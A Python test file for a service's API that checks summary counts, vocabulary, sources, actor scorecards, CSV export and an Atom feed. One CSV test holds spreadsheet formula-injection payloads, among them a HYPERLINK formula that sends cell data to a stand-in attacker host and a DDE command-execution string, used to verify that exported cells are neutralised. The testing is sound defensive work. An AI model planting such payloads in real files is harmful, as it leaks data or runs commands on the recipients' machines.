"""Summary, vocabulary, sources, actors, CSV and Atom."""

from __future__ import annotations

import csv
import hashlib
import io
import xml.etree.ElementTree as ET

from service.items import vocabulary
from service.system.models import Vocabulary
from tests.support.seed import ACTOR, ITEM, QUOTE, SOURCE

ATOM = "{http://www.w3.org/2005/Atom}"


def test_summary_counts_match_the_list(client, editor_headers) -> None:
    items = client.get("/api/v1/items", params={"limit": 200}).json()["items"]
    summary = client.get("/api/v1/summary").json()
    assert summary["total"] == len(items) == 35
    for kind in vocabulary.KINDS:
        mine = [i for i in items if i["kind"] == kind.code]
        entry = summary["kinds"][kind.code]
        assert entry["total"] == len(mine) and entry["label"] == kind.plural
        for phase in vocabulary.PHASES:
            assert entry["by_phase"][phase] == sum(i["phase"] == phase for i in mine)
        for status in kind.statuses:
            assert entry["by_status"][status.code] == sum(i["status"] == status.code for i in mine)
    commitments = summary["kinds"]["commitment"]
    assert summary["commitments_delivered_share"] == round(
        commitments["by_status"]["delivered"] / commitments["total"], 4
    )
    assert summary["overdue"] == 0
    response = client.post(
        f"/api/v1/items/{ITEM}/status",
        json={"status": "delivered", "note": "All in post."},
        headers=editor_headers,
    )
    after = client.get("/api/v1/summary").json()
    assert after["kinds"]["commitment"]["by_status"]["delivered"] == (
        commitments["by_status"]["delivered"] + 1
    )
    assert after["last_change_at"] == response.json()["updated_at"]


def test_vocabulary_is_the_one_table(client) -> None:
    body = client.get("/api/v1/vocabulary").json()
    assert body == Vocabulary.current().model_dump(mode="json")
    assert [k["code"] for k in body["kinds"]] == list(vocabulary.KIND_CODES)
    commitment = body["kinds"][0]
    assert commitment["code"] == "commitment" and commitment["initial_status"] == "pledged"
    assert {
        "code": "partially_delivered",
        "label": "Partially delivered",
        "phase": "resolved",
        "outcome": "mixed",
    } in commitment["statuses"]
    assert [o["code"] for o in body["outcomes"]] == list(vocabulary.OUTCOMES)


def test_sources_with_text_hash_and_quote_spans(client) -> None:
    listing = client.get("/api/v1/sources").json()["sources"]
    assert len(listing) == 2 and all("text" not in s for s in listing)
    for entry in listing:
        source = client.get(entry["links"]["self"]).json()
        assert hashlib.sha256(source["text"].encode("utf-8")).hexdigest() == source["sha256"]
        assert source["length"] == len(source["text"])
        assert source["publisher"] is None and source["url"] is None
        assert source["quote_spans"], entry["slug"]
        for span in source["quote_spans"]:
            item = client.get(f"/api/v1/items/{span['item']['slug']}").json()
            assert source["text"][span["start"] : span["end"]] == item["quote"]
    assert client.get("/api/v1/sources/nowhere").status_code == 404


def test_actors_with_scorecards(client) -> None:
    actors = client.get("/api/v1/actors").json()["actors"]
    assert {"slug": "ipcc", "name": "Independent Police Complaints Commission (IPCC)"}.items() <= (
        next(a for a in actors if a["slug"] == "ipcc").items()
    )
    items = client.get("/api/v1/items", params={"limit": 200}).json()["items"]
    for actor in actors:
        card = client.get(f"/api/v1/actors/{actor['slug']}").json()["scorecard"]
        for kind in ("commitment", "allegation", "proposal"):
            mine = [i for i in items if i["actor"]["slug"] == actor["slug"] and i["kind"] == kind]
            assert card[kind]["total"] == len(mine)
            assert card[kind]["open"] + card[kind]["active"] + card[kind]["resolved"] == len(mine)
    assert client.get("/api/v1/actors/nobody").status_code == 404


def test_csv_streams_every_matching_item(client) -> None:
    response = client.get("/api/v1/items.csv", params={"kind": "allegation"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["content-disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeffid,slug,kind,title")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    api = client.get("/api/v1/items", params={"kind": "allegation", "limit": 200}).json()["items"]
    assert [r["slug"] for r in rows] == [i["slug"] for i in api]
    first = rows[0]
    assert first["quote"] == api[0]["quote"]  # quotes with commas and curly quotes survive
    assert first["created_at"] == api[0]["created_at"]
    whole = client.get("/api/v1/items.csv").content.decode("utf-8")
    assert len(list(csv.DictReader(io.StringIO(whole.removeprefix("\ufeff"))))) == 35
    assert client.get("/api/v1/items.csv", params={"status": "nope"}).status_code == 422


def test_csv_text_cells_never_start_a_formula(client, editor_headers) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    created = client.post(
        "/api/v1/items",
        json={
            "kind": "commitment",
            "title": title,
            "description": "+1+cmd|' /C calc'!A0",
            "actor": ACTOR,
            "source": SOURCE,
            "quote": QUOTE,
            "quantity": {"value": 3, "unit": "@SUM(1+1)"},
        },
        headers=editor_headers,
    )
    assert created.status_code == 201, created.text
    text = client.get("/api/v1/items.csv").content.decode("utf-8").removeprefix("\ufeff")
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["slug"] == created.json()["slug"])
    assert row["title"] == "'" + title
    assert row["description"] == "'+1+cmd|' /C calc'!A0"
    assert row["quantity_unit"] == "'@SUM(1+1)"
    assert row["quantity_value"] == "3"
    for cell in csv.reader(io.StringIO(text)):
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cell)


def test_csv_neutralises_text_cells_only() -> None:
    from service.items.csv_export import inert

    cells = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "", -2.5, -3, 0, "a=b"]
    assert inert(cells) == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "plain", "", -2.5, -3, 0, "a=b"
    ]  # fmt: skip


def test_csv_pages_through_more_than_one_batch(app_settings) -> None:
    from service.db import read_session
    from service.items import csv_export, listing
    from service.items.filters import ItemFilters

    def as_it_is(_session):  # type: ignore[no-untyped-def]
        return lambda value: value

    chunks = list(
        csv_export.stream(filters=ItemFilters(), sort="title", public_in=as_it_is, batch=4)
    )
    assert len(chunks) > 5
    text = b"".join(chunks).decode("utf-8").removeprefix("\ufeff")
    slugs = [r["slug"] for r in csv.DictReader(io.StringIO(text))]
    with read_session() as s:
        expected = [r.slug for r in listing.iter_all(s, filters=ItemFilters(), sort="title")]
    assert slugs == expected and len(slugs) == 35


def test_atom_feed_is_valid_atom_of_the_latest_events(client, editor_headers) -> None:
    client.post(
        f"/api/v1/items/{ITEM}/status",
        json={"status": "stalled", "note": "Budget <frozen> & delayed."},
        headers=editor_headers,
    )
    response = client.get("/feed.atom")
    assert response.headers["content-type"] == "application/atom+xml; charset=utf-8"
    feed = ET.fromstring(response.content)
    assert feed.tag == f"{ATOM}feed"
    for required in ("id", "title", "updated", "author"):
        assert feed.find(f"{ATOM}{required}") is not None
    entries = feed.findall(f"{ATOM}entry")
    assert len(entries) == 36
    newest = entries[0]
    assert (
        newest.find(f"{ATOM}title").text
        == "62 additional staff for the CSE unit: Pledged → Stalled"
    )
    assert newest.find(f"{ATOM}summary").text == "Budget <frozen> & delayed."
    assert newest.find(f"{ATOM}author/{ATOM}name").text == "editor"
    assert newest.find(f"{ATOM}link").get("href").endswith(f"/items/{ITEM}")
    ids = [e.find(f"{ATOM}id").text for e in entries]
    assert len(set(ids)) == len(ids)
